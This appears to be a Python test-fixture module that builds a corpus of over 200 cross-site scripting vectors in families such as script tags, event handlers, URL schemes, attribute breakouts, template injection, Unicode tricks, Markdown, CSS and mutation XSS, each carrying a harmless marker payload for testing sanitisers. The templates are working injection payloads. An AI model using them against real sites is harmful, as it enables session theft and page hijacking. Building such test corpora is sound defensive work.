"""A corpus of hostile input: cross-site scripting vectors, generated from families.

Every vector carries a payload whose execution is observable: it calls ``alert``, ``confirm``,
``prompt`` or ``console.log`` with a marker number, or sets the global ``window.__xss`` to it.
The marker numbers all start with ``MARKER_PREFIX``, so a browser hook can tell a vector that ran
from anything the page itself does. Payloads contain no spaces or quotes, so they also work inside
unquoted attributes and in every quoting context the families put them in.

``vectors()`` returns the whole corpus (more than 200 entries, each unique);
``sample(n)`` a spread of ``n`` of them, one from each family before any family repeats, for places
where the normal suite can afford only a few.
"""

from __future__ import annotations

import base64
from itertools import zip_longest

MARKER_PREFIX = "4242"
_KINDS = ("alert", "console", "global", "confirm", "prompt")


def marker(number: int) -> str:
    return f"{MARKER_PREFIX}{number:04d}"


def payload(number: int) -> str:
    """The JavaScript a vector runs: observable, without spaces or quotes."""
    mark = marker(number)
    kind = _KINDS[number % len(_KINDS)]
    if kind == "console":
        return f"console.log({mark})"
    if kind == "global":
        return f"window.__xss={mark}"
    return f"{kind}({mark})"


# --- the families: each template has {js} where the payload goes -------------------------------------
SCRIPT_TAGS = [
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script >{js}</script >",
    "<script\n>{js}</script\n>",
    "<script type=text/javascript>{js}</script>",
    "<script type=module>{js}</script>",
    "<script src=data:,{js}></script>",
    "<script/src=data:text/javascript,{js}></script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<<script>{js}//<</script>",
    "<script>/*</script><script>*/{js}</script>",
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    "</style><script>{js}</script>",
    "</noscript><script>{js}</script>",
    "<!--><script>{js}</script>-->",
    "<![CDATA[<script>{js}</script>]]>",
]

_HANDLER_TAGS = [
    ("img src=x", "onerror"),
    ("img src=/nowhere.png", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg/", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("iframe", "onload"),
    ("video src=x", "onerror"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("object data=x", "onerror"),
    ("embed src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("div tabindex=0 autofocus", "onfocus"),
    ("div", "onmouseover"),
    ("div", "onclick"),
    ("p", "onpointerenter"),
    ("span", "onanimationstart"),
    ("form><button", "onclick"),
    ("math", "onmouseover"),
    ("x", "onbeforescriptexecute"),
]
HANDLERS = [f"<{tag} {event}={{js}}>" for tag, event in _HANDLER_TAGS] + [
    "<img src=x onerror='{js}'>",
    '<img src=x onerror="{js}">',
    "<img src=x onerror=`{js}`>",
    "<IMG SRC=x OnErRoR={js}>",
    "<img/src/onerror={js}>",
    "<img src=x onerror\n={js}>",
    "<img src=x onerror\t={js}>",
    "<svg\x0conload={js}>",
    "<svg onload\u3000={js}>",
    "<img src=x:alert(1) onerror=eval(src)>".replace("alert(1)", "{js}"),
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x to=1>",
    "<svg><a><animate attributeName=href values=javascript:{js} /><text x=20 y=20>Click</text></a>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href=data:,{js} />",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>".replace("&#x61;&#x6c;&#x65;&#x72;&#x74;(1)", "{js}"),
]

URL_SCHEMES = [
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "&#106;avascript:{js}",
    "&#x6A;avascript&#x3A;{js}",
    "javascript&colon;{js}",
    "\x01javascript:{js}",
    "vbscript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,{b64}",
    "data:image/svg+xml,<svg onload={js}>",
    '<a href="javascript:{js}">klikkaa</a>',
    "<a href=javascript:{js}>klikkaa</a>",
    "<a href='jav&#x09;ascript:{js}'>klikkaa</a>",
    "<a href=data:text/html;base64,{b64}>klikkaa</a>",
    '<a href="  javascript:{js}">klikkaa</a>',
    "<a xlink:href=javascript:{js}>klikkaa</a>",
    '<iframe src="javascript:{js}"></iframe>',
    "<iframe src=data:text/html,<script>{js}</script>></iframe>",
    "<form action=javascript:{js}><button>lähetä</button></form>",
    "<button formaction=javascript:{js}>lähetä</button>",
    "<object data=javascript:{js}></object>",
    "<embed src=javascript:{js}>",
    "<base href=javascript:{js}//>",
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    "<math><maction actiontype=statusline xlink:href=javascript:{js}>klikkaa</maction></math>",
    "<isindex action=javascript:{js} type=submit>",
    "<a href=\"javascript:void(0)\" onclick='{js}'>klikkaa</a>",
]

BREAKOUTS = [
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    '"><img src=x onerror={js}>',
    "'><img src=x onerror={js}>",
    '"><svg onload={js}>',
    "'><svg/onload={js}>",
    '" onmouseover="{js}" x="',
    "' onmouseover='{js}' x='",
    '" autofocus onfocus="{js}" x="',
    "' autofocus onfocus='{js}' x='",
    "` onmouseover=`{js}` x=`",
    " onmouseover={js} x=",
    '"onmouseover="{js}"',
    '" style="animation-name:spin" onanimationstart="{js}',
    '" accesskey="x" onclick="{js}" x="',
    '"/><script>{js}</script>',
    '"></a><script>{js}</script>',
    '"></option></select><img src=x onerror={js}>',
    "</textarea><img src=x onerror={js}>",
    "</title><img src=x onerror={js}>",
    '</label><img src=x onerror={js}>"',
    "&quot; onerror=&quot;{js}",
    '\\" onerror=\\"{js}',
    "&#34;><img src=x onerror={js}>",
    '"><iframe srcdoc="<script>{js}</script>">',
    '"; {js}; "',
    "'; {js}; '",
    '" + {js} + "',
    "' + {js} + '",
    "-->< img src=x onerror={js}>".replace("< img", "<img"),
    "--!><img src=x onerror={js}>",
    "]]><img src=x onerror={js}>",
]

TEMPLATES = [
    "{{{{7*7}}}}{js}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{{{$on.constructor('{js}')()}}}}",
    "{{{{'a'.constructor.prototype.charAt=[].join;$eval('x=1}} }} }};{js}//');}}}}",
    "{{% debug %}}{js}",
    "{{% load static %}}{{% static 'x' %}}{js}",
    "{{{{ settings.SECRET_KEY }}}}{js}",
    "{{{{ request.META }}}}{js}",
    "{{{{ csrf_token }}}}{js}",
    "{{% include 'base.html' %}}{js}",
    "{{# comment #}}{js}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "{{{{= {js} }}}}",
    "[[${{{js}}}]]",
    "{{{{{{{js}}}}}}}",
    "<div v-html=\"'<img src=x onerror={js}>'\"></div>",
    "<div ng-app ng-csp><div ng-focus=x=$event.view.window;x.{js} tabindex=0 autofocus>",
    "%{js}%",
]

JS_STRINGS = [
    "</script><script>{js}</script>",
    "</SCRIPT><script>{js}</script>",
    "</script ><img src=x onerror={js}>",
    "</ScRiPt\t><svg onload={js}>",
    "<!--<script>{js}</script>",
    "</script><!--<script>{js}</script>",
    '";{js};//',
    "';{js};//",
    '\\";{js};//',
    "\\';{js};//",
    "`;{js};//",
    "${{{js}}}`",
    "\u2028{js}\u2028",
    "\u2029{js}\u2029",
    "\u2028</script><script>{js}</script>",
    '{{"a":"</script><script>{js}</script>"}}',
    '{{"__proto__":{{"innerHTML":"<img src=x onerror={js}>"}}}}',
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "&#x3C;img src=x onerror={js}&#x3E;",
    "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;",
]

UNICODE = [
    "＜script＞{js}＜/script＞",
    "＜img src=x onerror={js}＞",
    "＂＞＜svg onload={js}＞",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "\u202e<img src=x onerror={js}>",
    "\u202egnp.<script>{js}</script>exe",
    "\u202d\u202e<svg onload={js}>\u202c",
    "\u2066<img src=x onerror={js}>\u2069",
    "<\u200bscript>{js}</script>",
    "<scr\u200dipt>{js}</scr\u200dipt>",
    "<img src=x on\u200berror={js}>",
    "\u200b\u200c\u200d\ufeff<script>{js}</script>",
    "\ufeff<svg onload={js}>",
    "<script\u0338>{js}</script>",
    "<\u0338img src=x onerror={js}>",
    "a\u0301\u0302\u0303\u0304\u0305<img src=x onerror={js}>",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d<svg onload={js}>",
    "ı<script>{js}</script>",
    "\u0130<img src=x onerror={js}>",
    "ſcript<script>{js}</script>",
    "<ſcript>{js}</ſcript>",
    "\u00a0<img\u00a0src=x\u00a0onerror={js}>",
    "<img src=x onerror={js}\u0000>",
    "\U0001f600<img src=x onerror={js}>\U0001f600",
    "\ud7ff<svg onload={js}>",
    "\u180e<img src=x onerror={js}>",
    "\u3000<script>{js}</script>",
    "\u2060<script>{js}</script>\u2060",
    "\u00ad<script>{js}</script>",
    "\u0085<img src=x onerror={js}>",
]

MARKDOWN = [
    "[klikkaa](javascript:{js})",
    "[klikkaa]( javascript:{js} )",
    "[klikkaa](JAVASCRIPT:{js})",
    "[klikkaa](data:text/html;base64,{b64})",
    '![kuva](x"onerror="{js})',
    "![kuva](javascript:{js})",
    '[klikkaa](https://example.fi"onmouseover="{js})',
    '<https://example.fi" onmouseover="{js}>',
    "**<img src=x onerror={js}>**",
    "`<script>{js}</script>`",
    "```\n</code><script>{js}</script>\n```",
    "[a]: javascript:{js}\n[klikkaa][a]",
    "> <svg onload={js}>",
    "- [ ] <img src=x onerror={js}>",
    "_<details open ontoggle={js}>_",
]

CSS = [
    '<div style="width:expression({js})">x</div>',
    "<div style=width:expression({js})>x</div>",
    '<div style="background:url(javascript:{js})">x</div>',
    '<div style="behavior:url(#default#time2)" onbegin="{js}">x</div>',
    "<style>@import 'javascript:{js}';</style>",
    '<style>*{{background:url("javascript:{js}")}}</style>',
    "<style>body{{-moz-binding:url(data:,{js})}}</style>",
    "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={js}>x</p>",
    "<link rel=stylesheet href=javascript:{js}>",
    "<link rel=import href=data:text/html,<script>{js}</script>>",
    "expression({js})",
    "x:expression({js})",
    "</style><img src=x onerror={js}>",
    '" style="x:expression({js})',
]

IFRAMES = [
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    "<iframe srcdoc='<img src=x onerror={js}>'></iframe>",
    '<iframe srcdoc="&lt;script&gt;{js}&lt;/script&gt;"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror={js}&gt;"></iframe>',
    "<iframe src=data:text/html;base64,{b64}></iframe>",
    "<frameset><frame src=javascript:{js}></frameset>",
    "<object type=text/html data=data:text/html;base64,{b64}></object>",
    "<embed type=text/html src=data:text/html;base64,{b64}>",
    "<portal src=javascript:{js}></portal>",
    "<iframe/onload={js}>",
]

MUTATION = [
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<template><img src=x onerror={js}></template>",
    "<template><script>{js}</script></template>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<math><style><img src=x onerror={js}></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    '<xmp><p title="</xmp><img src=x onerror={js}>">',
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    "<select><template><style><img src=x onerror={js}></style></template></select>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={js}></annotation-xml></math>",
    '<svg><p><style><g title="</style><img src=x onerror={js}>">',
    "<table><td><img src=x onerror={js}></td></table>",
    "<a><table><a><img src=x onerror={js}></a></table></a>",
    '<noembed><img title="</noembed><img src=x onerror={js}>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror={js}>"></noframes>',
    "<plaintext><img src=x onerror={js}>",
    '<textarea><img title="</textarea><img src=x onerror={js}>"></textarea>',
    '<title><img title="</title><img src=x onerror={js}>"></title>',
    "<keygen autofocus onfocus={js}>",
    "<dialog open><img src=x onerror={js}></dialog>",
    "<slot><img src=x onerror={js}></slot>",
    '<div popover id=p><img src=x onerror={js}></div><button popovertarget="p">x</button>',
]

FAMILIES: dict[str, list[str]] = {
    "script": SCRIPT_TAGS,
    "handler": HANDLERS,
    "url": URL_SCHEMES,
    "breakout": BREAKOUTS,
    "template": TEMPLATES,
    "js-string": JS_STRINGS,
    "unicode": UNICODE,
    "markdown": MARKDOWN,
    "css": CSS,
    "iframe": IFRAMES,
    "mutation": MUTATION,
}


def _fill(template: str, number: int) -> str:
    js = payload(number)
    b64 = base64.b64encode(f"<script>{js}</script>".encode()).decode()
    text = template.format(js=js, b64=b64)
    # Postgres text cannot hold NUL; the vector keeps its place with the character next to it instead.
    return text.replace("\x00", "\x01")


def _build() -> list[tuple[str, str]]:
    entries: list[tuple[str, str]] = []
    number = 0
    for family, templates in FAMILIES.items():
        for template in templates:
            number += 1
            entries.append((family, _fill(template, number)))
    return entries


_ENTRIES = _build()


def vectors() -> list[str]:
    """The whole corpus, in family order."""
    return [text for _family, text in _ENTRIES]


def families() -> dict[str, list[str]]:
    """The corpus grouped by family."""
    grouped: dict[str, list[str]] = {}
    for family, text in _ENTRIES:
        grouped.setdefault(family, []).append(text)
    return grouped


def sample(count: int, offset: int = 0) -> list[str]:
    """``count`` vectors, taking one from each family in turn (``offset`` starts further along)."""
    interleaved = [v for group in zip_longest(*families().values()) for v in group if v is not None]
    rotated = interleaved[offset % len(interleaved) :] + interleaved[: offset % len(interleaved)]
    return rotated[:count]


def fits(limit: int) -> list[str]:
    """The vectors at most ``limit`` characters long (for fields with a short maximum)."""
    return [text for text in vectors() if len(text) <= limit]
